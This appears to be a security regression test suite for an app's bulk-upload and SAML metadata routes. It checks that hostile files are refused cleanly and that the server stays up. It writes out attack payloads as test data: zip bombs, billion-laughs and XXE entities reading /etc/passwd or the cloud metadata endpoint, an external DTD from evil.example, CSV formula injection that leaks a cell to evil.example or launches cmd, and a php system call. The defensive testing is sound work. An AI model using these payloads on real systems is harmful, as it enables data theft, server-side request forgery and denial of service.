import { eq } from 'drizzle-orm';
import type { Response as LightMyRequestResponse } from 'light-my-request';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, neutraliseCell } from '../../shared/domain/report-cells';
import { orgUsers } from '../db/schema/index';
import { withSystem } from '../db/tenant';
import { idpMetadata, TEST_IDP_CERT_BASE64 } from '../modules/hstm-idp/test-fixtures';
import { createStaff, createTwoOrgs, TEST_PASSWORD } from '../test/factories';
import { fingerprintDatabase } from '../test/fingerprint';
import { createTestApp, type Agent, type TestApp } from '../test/harness';
import {
  BILLION_LAUGHS_DTD,
  DEFAULT_WORKBOOK,
  farRightRows,
  nestedElements,
  sharedStringsBomb,
  sheetBomb,
  sheetXml,
  workbookOf,
  workbookRelsTo,
  XXE_DTD,
  zipOf,
} from './hostile-sheets';

/**
 * The upload attacks of issue 17 part 3: hostile spreadsheets, CSV files and SAML metadata sent
 * through the real routes by a signed-in caller. Every case checks the answer (a 4xx with a
 * sentence, never a stack or a path), that the server answers another request while and after the
 * file is read, and that nothing was written (a refused user upload leaves only its line in the
 * import history). Each family prints how many cases were tried and how many held.
 */

const CASE_TIMEOUT = 120_000;
/** Generous: the machine is shared and slow; a hang is minutes, a pass is well under this. */
const PROMPT_MS = 20_000;

let t: TestApp;
let admin: Agent;
let staff: Agent;
let orgId: number;
let uploadsUrl: string;

beforeAll(async () => {
  t = await createTestApp();
  const w = await createTwoOrgs(t.deps);
  orgId = w.orgA.id;
  admin = await t.signIn(w.adminA.username, TEST_PASSWORD);
  const s = await createStaff(t.deps, '3');
  staff = await t.signIn(s.username, s.password);
  uploadsUrl = `/api/o/${orgId}/user_bulk_uploads`;
}, 120_000);
afterAll(async () => t?.close());

type Family = 'XLSX' | 'CSV' | 'SAML metadata';
const tally: Record<Family, { tried: number; held: number }> = {
  XLSX: { tried: 0, held: 0 },
  CSV: { tried: 0, held: 0 },
  'SAML metadata': { tried: 0, held: 0 },
};
const printTally = (family: Family): void =>
  console.info(`upload attacks, ${family}: ${tally[family].tried} cases tried, ${tally[family].held} held`);

/** The digest of the database, leaving out the import history a refused user upload is recorded in. */
async function digestWithout(tables: readonly string[]): Promise<string> {
  const digest = await fingerprintDatabase(t.deps);
  return digest
    .split('|')
    .filter((part) => !tables.some((table) => part.startsWith(`${table}:`)))
    .join('|');
}

/** No stack, no file path of the server, no file content: only sentences. */
function expectCleanSentences(res: LightMyRequestResponse): string {
  const body = res.json<{ errors?: unknown }>();
  expect(Array.isArray(body.errors), res.body.slice(0, 300)).toBe(true);
  const errors = body.errors as unknown[];
  expect(errors.length).toBeGreaterThan(0);
  for (const sentence of errors) expect(typeof sentence).toBe('string');
  const text = errors.join(' ');
  expect(text).not.toMatch(/\n\s+at |node_modules|\.[cm]?[jt]s:\d|\/(home|work|tmp|usr|srv|app)\/|root:x:0:0|Error:/);
  expect(res.body).not.toMatch(/root:x:0:0|"stack"/);
  return text;
}

interface Outcome {
  res: LightMyRequestResponse;
}

/**
 * Sends one attack and checks the server around it: a health call made while the file is being
 * read and another after it both answer promptly, and the database is as it was (less `unwritten`).
 */
async function attack(
  send: () => Promise<LightMyRequestResponse>,
  historyTables: readonly string[],
  writesAllowed = false,
): Promise<Outcome> {
  const before = writesAllowed ? '' : await digestWithout(historyTables);
  const pending = send();
  const during = Date.now();
  const healthDuring = await t.anonymous().get('/api/health');
  expect(healthDuring.statusCode).toBe(200);
  expect(Date.now() - during).toBeLessThan(PROMPT_MS);
  const res = await pending;
  const after = Date.now();
  const sessions = await admin.get('/api/sessions');
  expect(sessions.statusCode).toBe(200);
  expect(Date.now() - after).toBeLessThan(PROMPT_MS);
  if (!writesAllowed) expect(await digestWithout(historyTables)).toBe(before);
  return { res };
}

// ------------------------------------------------------------------ XLSX and CSV

const HEADER = 'First Name,Last Name,Email,Username,Title,Admin,Policy Owner,Groups';
const MiB = 1024 * 1024;
const HISTORY = ['bulk_uploads'];

const uploadFile = (body: Buffer, name: string) => () =>
  admin.post(`${uploadsUrl}?file_name=${encodeURIComponent(name)}`, body, {
    'content-type': 'application/octet-stream',
  });

interface RefusedUpload {
  name: string;
  file: () => Buffer;
  status?: number;
  /** What the refusal says (the whole-file sentence, or a row's). */
  says: RegExp;
  /** Harmless and rightly imported: the number of users it creates. */
  imports?: number;
}

const TOO_BIG = /The file attack\.xlsx holds a part that expands to more than 64 MB when opened and was refused\./;
const UNREADABLE = /The file attack\.xlsx could not be read as a CSV file or an Excel workbook \(XLSX\)\./;
const DAMAGED = /The file attack\.xlsx is damaged and could not be opened\./;
const NO_COLUMNS =
  /The first row must name the columns of the template\. Missing: First Name, Last Name, Email, Username\./;
/** The sheet was read by its own name, its DTD ignored and nothing expanded: only the row's own problems remain. */
const ROW_READ_UNEXPANDED =
  /^Nothing was imported: the file has 2 problems to fix\. Row 2, Email: Email is required\. Row 2, Username: Username is required\.$/;

const xlsxCases: RefusedUpload[] = [
  {
    name: 'zip bomb in xl/sharedStrings.xml (100 MB of one string)',
    file: () => workbookOf({ extra: [{ name: 'xl/sharedStrings.xml', data: sharedStringsBomb(100 * MiB) }] }),
    says: TOO_BIG,
  },
  {
    name: 'zip bomb in a sheet (100 MB of spaces)',
    file: () => workbookOf({ extra: [{ name: 'xl/worksheets/sheet1.xml', data: sheetBomb(100 * MiB) }] }),
    says: TOO_BIG,
  },
  {
    name: 'headers lying about sizes (a 100 MB sheet declared as 1 KB)',
    file: () =>
      workbookOf({ extra: [{ name: 'xl/worksheets/sheet1.xml', data: sheetBomb(100 * MiB), declared: 1024 }] }),
    says: TOO_BIG,
  },
  {
    name: 'billion laughs (DOCTYPE entity expansion) in sharedStrings',
    file: () =>
      workbookOf({
        sharedStrings: `<?xml version="1.0"?>${BILLION_LAUGHS_DTD('sst')}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`,
      }),
    says: UNREADABLE,
  },
  {
    name: 'billion laughs in workbook.xml',
    file: () =>
      workbookOf({ workbook: DEFAULT_WORKBOOK.replace('<workbook', `${BILLION_LAUGHS_DTD('workbook')}<workbook`) }),
    says: ROW_READ_UNEXPANDED,
  },
  {
    name: 'external entity (XXE, file:///etc/passwd) in sharedStrings',
    file: () =>
      workbookOf({
        sharedStrings: `<?xml version="1.0"?>${XXE_DTD('sst')}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>`,
      }),
    says: UNREADABLE,
  },
  {
    name: '200,000 nested elements in a sheet',
    file: () =>
      workbookOf({
        sheet: sheetXml(`<row r="1"><c r="A1" t="inlineStr"><is><t>${nestedElements(200_000, 'r')}</t></is></c></row>`),
      }),
    says: /The file attack\.xlsx is nested more than 500 levels deep and is too complex to be read safely\./,
  },
  {
    name: 'a sheet declaring the dimension A1:XFD1048576',
    file: () =>
      workbookOf({
        sheet: sheetXml('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>', 'A1:XFD1048576'),
      }),
    says: NO_COLUMNS,
  },
  {
    name: 'a row numbered r="1048576"',
    file: () =>
      workbookOf({
        sheet: sheetXml(
          `${farRightRows(0)}<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>`,
          'A1:D1048576',
        ),
      }),
    says: /more than 10,000 users/,
  },
  {
    name: 'a cell in column XFD on each of 10,000 rows',
    file: () => workbookOf({ sheet: sheetXml(farRightRows(10_000), 'A1:XFD10001') }),
    says: /The file attack\.xlsx has cells past column 1,024; the template has eight columns\./,
  },
  {
    name: '20,000 zip entries',
    file: () =>
      workbookOf({
        extra: Array.from({ length: 20_000 }, (_, i) => ({ name: `xl/media/e${i}.bin`, data: Buffer.from('x') })),
      }),
    says: /The file attack\.xlsx holds too many parts to be opened safely\./,
  },
  {
    name: 'the sheet relation pointing outside the zip (../../etc/passwd)',
    file: () => workbookOf({ workbookRels: workbookRelsTo('../../../../etc/passwd') }),
    says: ROW_READ_UNEXPANDED,
  },
  {
    name: 'an encrypted entry (flag bit 0)',
    file: () =>
      workbookOf({
        extra: [{ name: 'xl/worksheets/sheet1.xml', data: sheetBomb(4096), flags: 1, method: 0 }],
      }),
    says: DAMAGED,
  },
  {
    name: 'an unsupported compression method (LZMA, 14)',
    file: () => workbookOf({ extra: [{ name: 'xl/worksheets/sheet1.xml', data: sheetBomb(4096), method: 14 }] }),
    says: DAMAGED,
  },
  {
    name: 'a truncated zip (the last third cut off)',
    file: () => {
      const whole = workbookOf();
      return whole.subarray(0, Math.floor((whole.length * 2) / 3));
    },
    says: DAMAGED,
  },
  {
    name: 'a zip of nothing but the end record',
    file: () => zipOf([]),
    says: /The file holds no users\./,
  },
];

const rowsOf = (n: number): string => {
  const lines = [HEADER];
  for (let i = 1; i <= n; i += 1) lines.push(`Ann${i},Lee,flood.${i}@example.com,flood.${i},,No,No,`);
  return lines.join('\n');
};

const csvCases: RefusedUpload[] = [
  {
    name: 'NUL bytes in a cell',
    file: () => Buffer.from(`${HEADER}\nAn\u0000n,Lee,nul@example.com,nul,,No,No,`),
    says: /neither a CSV file nor an Excel workbook/,
  },
  {
    name: 'a 5 MB single line',
    file: () => Buffer.from(`${HEADER}\n${'A'.repeat(5 * MiB)},Lee,long@example.com,long,,No,No,`),
    says: /Row 2, First Name: First Name must be at most 100 characters\./,
  },
  {
    name: '100,000 columns',
    file: () => Buffer.from(`${HEADER}${',x'.repeat(100_000)}\nAnn,Lee,wide@example.com,wide,,No,No,`),
    says: /.+/,
    imports: 1,
  },
  {
    name: 'an unbalanced quote running to the end of the file',
    file: () =>
      Buffer.from(
        `${HEADER}\n"Ann,Lee,quote@example.com,quote,,No,No,\n${rowsOf(200).split('\n').slice(1).join('\n')}`,
      ),
    says: /Row 2, First Name: First Name must be at most 100 characters\./,
  },
  {
    // Excel's "CSV UTF-16": read as the text it is (the mark says how).
    name: 'UTF-16 with a byte-order mark',
    file: () =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(`${HEADER}\nAnn,Lee,u16@example.com,u16,,No,No,`, 'utf16le'),
      ]),
    says: /.+/,
    imports: 1,
  },
  {
    name: 'UTF-16 without a byte-order mark',
    file: () => Buffer.from(`${HEADER}\nAnn,Lee,u16bare@example.com,u16bare,,No,No,`, 'utf16le'),
    says: /neither a CSV file nor an Excel workbook/,
  },
  {
    name: '10,001 rows, one past the limit',
    file: () => Buffer.from(rowsOf(10_001)),
    says: /holds more than 10,000 users/,
  },
  {
    name: '1,000,000 rows',
    file: () => Buffer.from(`${HEADER}\n${'a,b,c@example.com,d,,,,\n'.repeat(400_000)}`),
    says: /holds more than 10,000 users/,
  },
];

describe('upload attacks: XLSX through the user bulk upload', () => {
  afterAll(() => printTally('XLSX'));
  for (const c of xlsxCases) {
    it(
      c.name,
      async () => {
        tally.XLSX.tried += 1;
        const { res } = await attack(uploadFile(c.file(), 'attack.xlsx'), HISTORY);
        expect(res.statusCode, res.body.slice(0, 300)).toBe(c.status ?? 422);
        const text = expectCleanSentences(res);
        expect(text).toMatch(c.says);
        tally.XLSX.held += 1;
      },
      CASE_TIMEOUT,
    );
  }
});

describe('upload attacks: CSV through the user bulk upload', () => {
  afterAll(() => printTally('CSV'));
  for (const c of csvCases) {
    it(
      c.name,
      async () => {
        tally.CSV.tried += 1;
        const { res } = await attack(uploadFile(c.file(), 'attack.csv'), HISTORY, c.imports !== undefined);
        if (c.imports !== undefined) {
          // Columns the import does not know are ignored; the known ones are checked as always.
          expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
          expect(res.json().upload).toMatchObject({ status: 'completed', created: c.imports });
          tally.CSV.held += 1;
          return;
        }
        expect(res.statusCode, res.body.slice(0, 300)).toBe(c.status ?? 422);
        const text = expectCleanSentences(res);
        expect(text).toMatch(c.says);
        tally.CSV.held += 1;
      },
      CASE_TIMEOUT,
    );
  }

  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|x',
    '-2+3',
  ];

  it(
    'formula cells are data: imported as typed, and neutralised in every CSV export (string cells in XLSX)',
    async () => {
      tally.CSV.tried += 1;
      const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
      const lines = [
        HEADER,
        ...FORMULAS.map((f, i) => `${quote(f)},${quote(f)},formula.${i}@example.com,formula.${i},${quote(f)},No,No,`),
      ];
      const { res } = await attack(uploadFile(Buffer.from(lines.join('\n')), 'formulas.csv'), HISTORY, true);
      expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
      expect(res.json().upload).toMatchObject({ status: 'completed', created: FORMULAS.length });
      const stored = await withSystem(t.deps.database.db, (tx) =>
        tx
          .select({ first: orgUsers.firstName, username: orgUsers.username })
          .from(orgUsers)
          .where(eq(orgUsers.orgId, orgId)),
      );
      for (const [i, formula] of FORMULAS.entries()) {
        const user = stored.find((u) => u.username === `formula.${i}`);
        expect(user?.first).toBe(formula);
        // What a report export writes for this value: a leading quote, so no spreadsheet evaluates it.
        expect(neutraliseCell(formula)).toBe(`'${formula}`);
        expect(csvField(formula).replace(/^"/, '')).toMatch(/^'[=+\-@]/);
      }
      for (const lead of ['\t=1+1', '\r=1+1']) expect(neutraliseCell(lead)).toBe(`'${lead}`);
      tally.CSV.held += 1;
    },
    CASE_TIMEOUT,
  );
});

// ------------------------------------------------------------------ SAML metadata

const PARSE_URL = '/api/hstm/organizations/parse_idp_metadata';
const VALIDATE_URL = '/api/hstm/organizations/validate_saml_settings';
const withoutProlog = (xml: string): string => xml.replace(/<\?xml[^>]*\?>\s*/, '');
const parseMetadata = (xml: string) => () => staff.post(PARSE_URL, { metadata_xml: xml });
/** A staff call that is answered leaves its line in the staff action log, and only that. */
const STAFF_AUDIT = ['staff_action_logs'];
const DOCTYPE_REFUSED = /^The metadata contains a DOCTYPE or entity declaration, which is not allowed\.$/;

interface MetadataCase {
  name: string;
  xml: () => string;
  status?: number;
  says: RegExp;
}

const withCertificate = (cert: string): string => idpMetadata().replace(TEST_IDP_CERT_BASE64, cert);

const samlRefusals: MetadataCase[] = [
  {
    name: 'XXE with a SYSTEM file entity',
    xml: () => `${XXE_DTD('md:EntityDescriptor')}${withoutProlog(idpMetadata('&xxe;'))}`,
    says: DOCTYPE_REFUSED,
  },
  {
    name: 'XXE with an http entity',
    xml: () =>
      `${XXE_DTD('md:EntityDescriptor', 'http://169.254.169.254/latest/meta-data/')}${withoutProlog(idpMetadata('&xxe;'))}`,
    says: DOCTYPE_REFUSED,
  },
  {
    name: 'a parameter entity fetching an external DTD',
    xml: () =>
      `<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>${withoutProlog(idpMetadata())}`,
    says: DOCTYPE_REFUSED,
  },
  {
    name: 'billion laughs',
    xml: () => `${BILLION_LAUGHS_DTD('md:EntityDescriptor')}${withoutProlog(idpMetadata('&lol9;'))}`,
    says: DOCTYPE_REFUSED,
  },
  {
    name: 'a DOCTYPE in lower case after a comment',
    xml: () => `<!-- x --><!doctype r [<!entity e SYSTEM "file:///etc/passwd">]>${withoutProlog(idpMetadata())}`,
    says: DOCTYPE_REFUSED,
  },
  {
    name: '70,000 nested elements (inside the size bound)',
    xml: () => idpMetadata().replace('<md:NameIDFormat>', `${nestedElements(70_000, 'b')}<md:NameIDFormat>`),
    says: /^The metadata is nested too deeply to be read safely\.$/,
  },
  {
    name: '200,000 nested elements (1.4 MB)',
    xml: () => nestedElements(200_000, 'b'),
    status: 413,
    says: /^The request is too large\.$/,
  },
  {
    name: '10 MB of metadata',
    xml: () => idpMetadata().replace('<md:NameIDFormat>', `<!--${'x'.repeat(10 * MiB)}--><md:NameIDFormat>`),
    status: 413,
    says: /^The request is too large\.$/,
  },
  {
    name: '600 KB of metadata (over 512 KB, inside the body bound)',
    xml: () => idpMetadata().replace('<md:NameIDFormat>', `<!--${'x'.repeat(600 * 1024)}--><md:NameIDFormat>`),
    says: /^Metadata XML is too large \(at most 512 KB\)$/,
  },
  {
    name: 'a certificate that is not base64',
    xml: () => withCertificate('this is !!! not base64 ***'),
    says: /signing certificate in the metadata could not be read/,
  },
  {
    name: 'a 400 KB certificate of base64 noise',
    xml: () => withCertificate('QUFB'.repeat(100 * 1024)),
    says: /signing certificate in the metadata could not be read/,
  },
  {
    name: 'a 1 MB certificate',
    xml: () => withCertificate('QUFB'.repeat(256 * 1024)),
    status: 413,
    says: /^The request is too large\.$/,
  },
  { name: 'not XML at all', xml: () => '\u0000\u0001 garbage <<<', says: /^The metadata is not well-formed XML\.$/ },
  {
    name: 'an EntityDescriptor without an IDPSSODescriptor',
    xml: () =>
      '<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sp.example"><SPSSODescriptor/></EntityDescriptor>',
    says: /is not SAML identity provider metadata/,
  },
];

const FEDERATION = (): string => {
  const others = Array.from(
    { length: 3_000 },
    (_, i) => `<md:EntityDescriptor entityID="https://sp${i}.example.test"><md:SPSSODescriptor/></md:EntityDescriptor>`,
  ).join('');
  const idp = withoutProlog(idpMetadata()).replace(
    /^<md:EntityDescriptor[^>]*>/,
    '<md:EntityDescriptor entityID="https://idp.example.test/saml">',
  );
  return `<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${others}${idp}</md:EntitiesDescriptor>`;
};

/** Cases where reading is the right answer: what comes back is checked to carry nothing of the attack. */
const samlHarmless: { name: string; xml: () => string; check: (body: Record<string, unknown>) => void }[] = [
  {
    name: '3,001 EntityDescriptors (a federation file): the one identity provider is found',
    xml: FEDERATION,
    check: (body) => expect(body.entity_id).toBe('https://idp.example.test/saml'),
  },
  {
    // The parser takes "<" in an attribute value as text (strict XML would not): nothing is read
    // as a comment, so the entity id is neither cut short nor changed.
    name: 'a comment inside the entityID is kept as text, not cut',
    xml: () => idpMetadata('https://idp.example.test/<!--x-->saml'),
    check: (body) => expect(body.entity_id).toBe('https://idp.example.test/<!--x-->saml'),
  },
  {
    name: 'an XInclude of file:///etc/passwd is not followed',
    xml: () =>
      idpMetadata().replace(
        '<md:NameIDFormat>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><md:NameIDFormat>',
      ),
    check: (body) => expect(JSON.stringify(body)).not.toMatch(/root:|passwd/),
  },
  {
    name: 'processing instructions (a stylesheet, a php block) are ignored',
    xml: () =>
      idpMetadata().replace(
        '<md:IDPSSODescriptor',
        '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><?php system("id"); ?><md:IDPSSODescriptor',
      ),
    check: (body) => expect(JSON.stringify(body)).not.toMatch(/evil|system/),
  },
  {
    name: 'a comment inside the certificate text is not part of it',
    xml: () => {
      const half = Math.floor(TEST_IDP_CERT_BASE64.length / 2);
      return withCertificate(
        `${TEST_IDP_CERT_BASE64.slice(0, half)}<!-- injected -->${TEST_IDP_CERT_BASE64.slice(half)}`,
      );
    },
    check: (body) => expect(JSON.stringify(body)).not.toContain('injected'),
  },
];

describe('upload attacks: SAML metadata through the staff metadata reader', () => {
  afterAll(() => printTally('SAML metadata'));
  for (const c of samlRefusals) {
    it(
      c.name,
      async () => {
        tally['SAML metadata'].tried += 1;
        const { res } = await attack(parseMetadata(c.xml()), []);
        expect(res.statusCode, res.body.slice(0, 300)).toBe(c.status ?? 422);
        const text = expectCleanSentences(res);
        expect(text).toMatch(c.says);
        tally['SAML metadata'].held += 1;
      },
      CASE_TIMEOUT,
    );
  }

  for (const c of samlHarmless) {
    it(
      c.name,
      async () => {
        tally['SAML metadata'].tried += 1;
        const { res } = await attack(parseMetadata(c.xml()), STAFF_AUDIT);
        expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
        c.check(res.json<Record<string, unknown>>());
        tally['SAML metadata'].held += 1;
      },
      CASE_TIMEOUT,
    );
  }

  for (const scheme of ['javascript:alert(document.domain)//', 'file:///etc/passwd', 'http://idp.example.test/sso']) {
    it(
      `valid metadata whose SSO URL is ${scheme.split(':')[0]}: is read as written, and refused as settings`,
      async () => {
        tally['SAML metadata'].tried += 1;
        const xml = idpMetadata().replace(/Location="https:\/\/idp\.example\.test\/saml\/sso"/, `Location="${scheme}"`);
        const { res } = await attack(parseMetadata(xml), STAFF_AUDIT);
        expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
        const read = res.json<{ entity_id: string; sso_endpoints: { location: string }[] }>();
        expect(read.sso_endpoints.map((e) => e.location)).toContain(scheme);
        const settings = {
          saml_org_setting: { entity_id: read.entity_id, sso_url: scheme, certificate: TEST_IDP_CERT_BASE64 },
        };
        const { res: refused } = await attack(() => staff.post(VALIDATE_URL, settings), []);
        expect(refused.statusCode).toBe(422);
        expect(expectCleanSentences(refused)).toMatch(/SSO URL must be an https address/);
        tally['SAML metadata'].held += 1;
      },
      CASE_TIMEOUT,
    );
  }
});
